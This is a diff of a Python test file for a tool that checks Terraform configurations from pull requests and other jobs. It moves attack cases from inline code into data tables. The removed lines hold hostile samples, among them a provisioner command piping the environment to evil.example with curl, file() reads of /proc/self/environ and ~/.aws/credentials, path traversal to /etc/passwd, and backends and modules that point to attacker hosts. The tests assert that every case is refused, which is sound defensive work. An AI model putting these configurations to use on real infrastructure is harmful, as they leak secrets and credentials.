@@ -5,12 +5,14 @@ import os
 import shutil
 import sys
 from collections.abc import Callable
+from functools import partial
 from pathlib import Path
 from typing import Any
 
 import pytest
 
 from keyproof.terminal.user_error import UserError
+from keyproof.tests.cases import edit, read_data
 from smsbot import project, vet
 from smsbot.design.foreign import take_over, take_synthesized
 from tests.stacks.synthesized import LONGEST, PLAIN, PROTECTED, WITH_NUMBER, synthesize_to
@@ -44,179 +46,36 @@ def key(configuration: dict[str, Any]) -> dict[str, Any]:
     return configuration["resource"]["aws_kms_key"]["sns"]
 
 
-ATTACKS: dict[str, Change] = {
-    "a data source that runs a program": lambda c: c["data"].update(
-        external={"x": {"program": ["sh", "-c", "env"]}}
-    ),
-    "a data source of the provider": lambda c: c["data"].update(
-        aws_s3_object={"x": {"bucket": "b", "key": "smsbot-prod.tfstate"}}
-    ),
-    "a provisioner": lambda c: role(c).update(
-        provisioner=[{"local-exec": {"command": "env | curl -d @- https://evil.example"}}]
-    ),
-    "a provisioner in a list of blocks": lambda c: c["resource"]["aws_iam_role"].update(
-        more=[{"name": "more", "provisioner": {"local-exec": {"command": "env"}}}]
-    ),
-    # Terraform reads each of these as a block too.
-    "a provisioner in a list of lists": lambda c: c["resource"]["aws_iam_role"].update(
-        more=[[{"name": "more", "provisioner": {"local-exec": {"command": "env"}}}]]
-    ),
+# What TOML has no words for.
+IN_CODE: dict[str, Change] = {
     "resources in a list": lambda c: c.update(resource=[c["resource"]]),
-    "a type in a list": lambda c: c["resource"].update(aws_iam_role=[{"more": {"count": 1}}]),
-    "a provisioner in a list of itself": lambda c: role(c).update(
-        provisioner=[[{"local-exec": [[{"command": "env"}]]}]]
-    ),
-    "a block in a list of lists": lambda c: key(c).update(timeouts=[[{"create": "1m"}]]),
-    "a list of objects and texts": lambda c: key(c).update(timeouts=[{"create": "1m"}, "x"]),
-    "a list at depth": lambda c: key(c).update(timeouts={"create": {"x": [[1]]}}),
-    "an output in a list": lambda c: c["output"].update(Leak=[[{"value": 1}]]),
-    "a resource that is a text": lambda c: c["resource"]["aws_iam_role"].update(more="x"),
-    "several of a resource": lambda c: role(c).update(count=2),
-    "one for each": lambda c: role(c).update(for_each=["a"]),
-    "a dynamic block": lambda c: key(c).update(
-        dynamic={"timeouts": {"for_each": ["a"], "content": {}}}
-    ),
-    "a dynamic block at depth": lambda c: key(c).update(timeouts=[{"dynamic": {"x": {}}}]),
-    "an action after the apply": lambda c: role(c).update(
-        lifecycle=[{"action_trigger": {"events": ["after_create"]}}]
-    ),
-    "a connection": lambda c: role(c).update(connection=[{"host": "evil.example"}]),
-    "a type that runs a function": lambda c: c["resource"].update(
-        aws_lambda_invocation={"x": {"function_name": "f", "input": "{}"}}
-    ),
-    "a file of the runner": lambda c: c["resource"]["aws_lambda_function"]["bot"].update(
-        filename="/proc/self/environ"
-    ),
-    "a file beside the assets": lambda c: c["resource"]["aws_lambda_function"]["bot"].update(
-        filename="assets/../../../../etc/passwd"
-    ),
-    "a row of markers": lambda c: role(c).update(description='$$${file("/proc/self/environ")}'),
-    "a longer row of markers": lambda c: role(c).update(description="%%%%{if true}x%{endif}"),
-    "another provider": lambda c: c["resource"].update(null_resource={"x": {}}),
-    "another provider by the requirements": lambda c: c["terraform"]["required_providers"].update(
-        aws={"source": "evil/aws", "version": "6.25.0"}
-    ),
-    "another release": lambda c: c["terraform"]["required_providers"]["aws"].update(
-        version=">= 6.0"
-    ),
-    "an endpoint that gets signed requests": lambda c: c["provider"]["aws"][0].update(
-        endpoints=[{"sts": "https://evil.example"}]
-    ),
-    "an alias of the provider": lambda c: c["provider"]["aws"].append({"alias": "evil"}),
-    "a resource with another provider": lambda c: role(c).update(provider="aws.evil"),
-    "another state": lambda c: c["terraform"]["backend"]["local"].update(path="/etc/passwd"),
-    "a module": lambda c: c.update(module={"x": {"source": "git::https://evil.example"}}),
-    "a local value": lambda c: c.update(locals={"x": '${file("/proc/self/environ")}'}),
-    "a variable": lambda c: c.update(variable={"x": {"default": 1}}),
-    "an import": lambda c: c.update({"import": [{"to": "aws_kms_key.x", "id": "prod"}]}),
-    "a check with a data source": lambda c: c.update(check={"x": {"data": {"http": {}}}}),
-    "an ephemeral resource": lambda c: c.update(ephemeral={"aws_lambda_invocation": {}}),
-    "a function that reads a file": lambda c: role(c).update(
-        description='${file("/proc/self/environ")}'
-    ),
-    "a function in an index": lambda c: role(c).update(
-        description='${aws_kms_key.sns[file("/proc/self/environ")].arn}'
-    ),
-    "a function in the name of a tag": lambda c: key(c).update(
-        tags={'${file("/proc/self/environ")}': "x"}
-    ),
-    # Terraform reads K, in the normal form of Unicode.
-    "a text that Terraform reads as another": lambda c: role(c).update(
-        inline_policy=[{"name": "x", "policy": '{"Action": "\u212aMS:DECRYPT"}'}]
-    ),
     "half a character": lambda c: role(c).update(description="\ud800"),
-    "a directive": lambda c: role(c).update(description="%{ if true }${path.cwd}%{ endif }"),
-    "a template that does not end": lambda c: role(c).update(description="${file("),
-    "the environment of Terraform": lambda c: role(c).update(description="${terraform.workspace}"),
-    "an output that reads a file": lambda c: c["output"].update(
-        Leak={"value": '${filebase64("~/.aws/credentials")}'}
-    ),
-    # Terraform takes each of these texts for an expression, without any marker.
-    "a function in a dependency": lambda c: role(c).update(
-        depends_on=['aws_kms_key.sns[file("/proc/self/environ")]']
-    ),
-    "a function in what triggers": lambda c: role(c).update(
-        lifecycle={"replace_triggered_by": ['aws_kms_key.sns[file("/proc/self/environ")].arn']}
-    ),
-    "a function in what is ignored": lambda c: role(c).update(
-        lifecycle=[{"ignore_changes": ['tags[file("/proc/self/environ")]']}]
-    ),
-    "a dependency of an output": lambda c: c["output"].update(
-        Leak={"value": 1, "depends_on": ['file("/proc/self/environ")']}
-    ),
-    "an expression in a condition": lambda c: role(c).update(
-        lifecycle={"precondition": [{"condition": '${fileexists("/x")}', "error_message": "x"}]}
-    ),
 }
 
 
-@pytest.mark.parametrize("name", ATTACKS)
+def attacks(table: str) -> dict[str, Change]:
+    return {name: partial(edit, case=case) for name, case in read_data(__file__, table).items()}
+
+
+ATTACKS = IN_CODE | attacks("attacks")
+OF_PULL_REQUESTS = ATTACKS | attacks("attacks_of_pull_requests")
+OF_ANOTHER_JOB = ATTACKS | attacks("attacks_of_main")
+
+
+@pytest.mark.parametrize("name", OF_PULL_REQUESTS)
 def test_what_could_run_code_is_refused(name: str, base: Path, tmp_path: Path) -> None:
-    foreign = changed(base, tmp_path, ATTACKS[name])
+    foreign = changed(base, tmp_path, OF_PULL_REQUESTS[name])
     with pytest.raises(UserError, match="could run code during the plan"):
         take_over(STACK, base=base, foreign=foreign, output=tmp_path / "output")
     assert not (tmp_path / "output").exists()
 
 
-# The lock of the checkout has the release.
-OF_MAIN = ("another release",)
-
-
-def provider(configuration: dict[str, Any]) -> dict[str, Any]:
-    return configuration["provider"]["aws"][0]
-
-
-def kept_in(**backend: object) -> Change:
-    return lambda c: c["terraform"].update(backend=backend)
-
-
-ENVIRON = '${file("/proc/self/environ")}'
-# Of a pull request, what main has of these is compared.
-ATTACKS_OF_MAIN: dict[str, Change] = {
-    "a state that runs a program": kept_in(
-        kubernetes={"secret_suffix": "x", "exec": [{"command": "env"}]}
-    ),
-    "a state on a server": kept_in(http={"address": "https://evil.example"}),
-    "a state through a proxy": kept_in(
-        s3={"bucket": "b", "key": "k", "http_proxy": "http://evil.example", "insecure": True}
-    ),
-    "a state that is two": lambda c: c["terraform"].update(cloud={"hostname": "evil.example"}),
-    "a state at another organization": lambda c: c["terraform"].update(
-        backend=None, cloud={"hostname": "evil.example", "token": "x"}
-    ),
-    "a local state with more": lambda c: c["terraform"]["backend"]["local"].update(
-        workspace_dir="/tmp"
-    ),
-    "a hash of the code before": lambda c: c["resource"]["aws_lambda_function"]["bot"].update(
-        source_code_hash="x"
-    ),
-    "another region": lambda c: provider(c).update(region="us-east-1"),
-    "a region from a file": lambda c: provider(c).update(region=ENVIRON),
-    "another account": lambda c: provider(c).update(allowed_account_ids=["999999999999"]),
-    "no tags": lambda c: provider(c).pop("default_tags"),
-    "tags of another environment": lambda c: provider(c)["default_tags"][0]["tags"].update(
-        Environment="prod"
-    ),
-    "a tag from a file": lambda c: provider(c)["default_tags"][0]["tags"].update(X=ENVIRON),
-    "a data source that reads a file": lambda c: c["data"].update(
-        aws_kms_alias={"x": {"name": ENVIRON}}
-    ),
-    "a data source for each": lambda c: c["data"]["aws_caller_identity"]["current"].update(
-        for_each=["a"]
-    ),
-    "a data source in a list": lambda c: c["data"].update(aws_kms_alias=[{"x": {"name": "x"}}]),
-    "a data source that depends on a file": lambda c: c["data"]["aws_caller_identity"][
-        "current"
-    ].update(depends_on=['aws_kms_key.sns[file("/x")]']),
-}
-
-
-@pytest.mark.parametrize("name", sorted({*ATTACKS, *ATTACKS_OF_MAIN} - {*OF_MAIN}))
+@pytest.mark.parametrize("name", OF_ANOTHER_JOB)
 def test_what_another_job_synthesized_cannot_run_code_either(
     name: str, base: Path, tmp_path: Path
 ) -> None:
     """Attack: a bad release in the job that synthesizes runs code as the deploy role."""
-    foreign = changed(base, tmp_path, {**ATTACKS, **ATTACKS_OF_MAIN}[name])
+    foreign = changed(base, tmp_path, OF_ANOTHER_JOB[name])
     with pytest.raises(UserError, match="from another job could run code"):
         take_synthesized(PLAIN, synthesized=foreign, output=tmp_path / "output")
     assert not (tmp_path / "output").exists()
